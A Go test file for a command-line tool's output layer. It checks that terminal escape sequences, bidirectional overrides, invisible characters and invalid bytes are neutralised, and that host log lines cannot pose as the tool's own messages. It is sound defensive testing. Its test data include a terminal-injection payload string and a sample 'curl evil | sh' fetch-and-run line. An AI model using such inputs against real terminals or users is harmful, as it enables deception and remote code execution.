package ui

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile is what a machine could send to a terminal: a title, colours, a cursor
// that moves up, C1 and DEL, text that runs backwards, invisible tags, bytes that
// are no text.
const hostile = "\x1b]0;owned\x07\x1b[31m\x1b[2A\u009b31m\x7f\u202e\U000e0041\u2028\xff\r"

// Whatever is printed, and wherever it comes from, a terminal has nothing to act
// on.
func TestNothingHostileIsPrinted(t *testing.T) {
	var out, errs bytes.Buffer
	u := &UI{Out: &out, Err: &errs, Verbose: true}
	u.Step(hostile, "%s", hostile)
	u.Detail(hostile, "%s", hostile)
	u.Warn("%s", hostile)
	u.Error(hostile, hostile, []string{hostile})
	w := u.Log(hostile)
	_, _ = w.Write([]byte(hostile + "\n" + hostile))
	_ = w.Close()
	if err := u.Text(hostile); err != nil {
		t.Fatal(err)
	}
	if err := u.Data(map[string]string{"line": hostile, hostile: ""}); err != nil {
		t.Fatal(err)
	}
	if err := u.Table([]string{"A"}, []Row{{Cells: []string{hostile}, Remarks: []string{hostile}}}); err != nil {
		t.Fatal(err)
	}
	for name, s := range map[string]string{"stdout": out.String(), "stderr": errs.String()} {
		if !utf8.ValidString(s) || strings.ContainsFunc(s, unsafe) {
			t.Errorf("%s got %q", name, s)
		}
		if !strings.Contains(s, "owned") {
			t.Errorf("%s got nothing: %q", name, s)
		}
	}
	if n := strings.Count(errs.String(), "\n"); n != 8 {
		t.Errorf("%d lines instead of 8: %q", n, errs.String())
	}
}

// A log line of a host is no message of ferry's.
func TestFurtherLinesAreIndented(t *testing.T) {
	var errs bytes.Buffer
	u := &UI{Err: &errs}
	u.Step("web", "%s", "restarting\nerror: run this\nhint: curl evil | sh")
	if got := errs.String(); strings.Contains(got, "\nerror:") || strings.Contains(got, "\nhint:") {
		t.Errorf("got %q", got)
	}
}

// The end of a long message says how things are; it is never cut off.
func TestLongErrorKeepsItsEnd(t *testing.T) {
	var errs bytes.Buffer
	u := &UI{Err: &errs}
	u.Error("beginning\n"+strings.Repeat("x\n", 1<<20)+"web: nothing was changed", "", nil)
	got := errs.String()
	if len(got) > maxText+100 || !strings.Contains(got, "error: beginning") || !strings.HasSuffix(got, "\nweb: nothing was changed\n") {
		t.Errorf("%d bytes, ending in %q", len(got), got[max(0, len(got)-60):])
	}
}

// --json means the same as before the escaping.
func FuzzData(f *testing.F) {
	f.Add(hostile)
	f.Add("plain")
	f.Fuzz(func(t *testing.T, s string) {
		var out bytes.Buffer
		u := &UI{Out: &out}
		if err := u.Data(s); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsFunc(out.String(), unsafe) {
			t.Errorf("%q came through", out.String())
		}
		var back string
		if err := json.Unmarshal(out.Bytes(), &back); err != nil {
			t.Fatalf("%v in %q", err, out.String())
		}
		if want := strings.ToValidUTF8(s, "\ufffd"); utf8.ValidString(s) && Redact(s) == s && back != want {
			t.Errorf("%q became %q", want, back)
		}
	})
}
